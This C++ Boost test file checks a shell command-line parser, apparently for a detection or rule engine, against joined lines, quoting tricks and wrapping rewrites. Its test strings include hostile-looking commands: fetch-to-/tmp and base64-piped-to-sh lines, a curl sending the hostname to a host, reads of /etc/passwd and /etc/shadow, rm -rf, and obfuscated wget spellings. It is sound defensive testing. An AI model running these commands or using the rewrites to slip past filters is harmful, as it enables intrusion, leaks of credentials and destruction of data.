#include "unit/shell/read_line.hpp"

#include <boost/json.hpp>
#include <boost/test/unit_test.hpp>

#include <fstream>

BOOST_AUTO_TEST_SUITE(shell_metamorphic)

using namespace rulehost::shell;

namespace {

/// Lines that set nothing and leave nothing open, so that they do not affect the next.
std::vector<std::string> plain_lines() {
    return {"wget http://h/x -O /tmp/x",
            "chmod 777 /tmp/x",
            "cat /etc/passwd | grep root",
            "echo hi > f",
            "sudo -u a id -u",
            "(id; w) 2>&1",
            "for i in 1 2; do ping $i; done",
            "if id; then w; fi",
            "sh -c 'id; w'",
            "find / -name x -exec ls {} +",
            "echo d2dldCB1 | base64 -d | sh",
            "curl -s http://h/$(hostname)",
            "[ -f x ] && rm -rf x || touch y",
            "ls {a,b}c",
            "awk 'BEGIN{system(\"id\")}'",
            "cat <(id) | tee >(wc)",
            "nohup ./x & ",
            "case x in a) id;; *) w;; esac",
            "w${zz}get u",
            "rm -rf $zz/*",
            "echo 'it'\\''s'",
            "env -i A=1 id",
            "xargs -n1 id < g",
            "$'\\x77get' u",
            "true || id"};
}

} // namespace

BOOST_AUTO_TEST_CASE(two_lines_joined_are_read_as_each_of_them) {
    auto const lines = plain_lines();
    for (auto const& left : lines) {
        for (auto const& right : lines) {
            for (std::string_view const joint : {"; ", "\n"}) {
                line_reading const first(left);
                line_reading const second(right);
                auto expected = first.commands();
                expected.merge(second.commands());
                auto const background = left.ends_with("& ");
                line_reading const both(left + (background && joint == "; " ? "" : std::string(joint)) + right);
                BOOST_TEST((both.commands() == expected), left << joint << right);
            }
        }
    }
}

BOOST_AUTO_TEST_CASE(quoting_a_word_changes_nothing) {
    for (std::string_view const word : {"wget", "/usr/bin/wget", "http://h/x", "-O", "f.txt", "10.0.0.1", "a-b_c"}) {
        auto const line = [&](std::string const& quoted) { return "wget " + quoted + " u; " + quoted + " -x"; };
        line_reading const plain(line(std::string(word)));
        auto const half = word.size() / 2;
        for (auto const& quoted :
             {"'" + std::string(word) + "'", "\"" + std::string(word) + "\"", "$'" + std::string(word) + "'",
              "\\" + std::string(word), std::string(word.substr(0, half)) + "''" + std::string(word.substr(half)),
              std::string(word.substr(0, half)) + "$@" + std::string(word.substr(half)),
              std::string(word.substr(0, half)) + "\\\n" + std::string(word.substr(half)),
              "$(echo " + std::string(word) + ")", "`printf " + std::string(word) + "`"}) {
            line_reading const other(line(quoted));
            auto commands = other.commands();
            if (quoted.starts_with("$(") || quoted.starts_with("`"))
                std::erase_if(commands,
                              [](auto const& each) { return each.front() == "echo" || each.front() == "printf"; });
            if (quoted.starts_with("$(echo -") || quoted.starts_with("`printf -"))
                continue; // an option of echo
            BOOST_TEST((commands == plain.commands()), quoted);
        }
    }
}

BOOST_AUTO_TEST_CASE(rewritings_keep_the_command) {
    for (std::string const line : {"wget http://h/x", "cat /etc/shadow", "rm -rf /tmp/x", "chmod 777 x"}) {
        line_reading const plain(line);
        auto const expected = *plain.commands().begin();
        for (auto const& other : {"sudo -u root -n " + line,
                                  "busybox " + line,
                                  "( " + line + " )",
                                  "{ " + line + "; }",
                                  "sh -c '" + line + "'",
                                  "eval " + line,
                                  "id; " + line,
                                  line + " && id",
                                  "$(echo " + line + ")",
                                  "nohup " + line + " &",
                                  "echo '" + line + "' | sh",
                                  "xargs " + line + " </dev/null",
                                  "bash <<< '" + line + "'",
                                  "f() { " + line + "; }; f",
                                  "a='" + line + "'; $a",
                                  "env X=1 " + line,
                                  "su -c '" + line + "'",
                                  "while :; do " + line + "; done",
                                  "/usr/bin/" + line,
                                  "trap '" + line + "' EXIT",
                                  "timeout -k 5 10 " + line,
                                  "ssh root@h '" + line + "'",
                                  "python3 -c 'import os; os.system(\"" + line + "\")'"}) {
            line_reading const rewritten(other);
            BOOST_TEST(rewritten.commands().contains(expected), other);
        }
    }
}

BOOST_AUTO_TEST_SUITE_END()
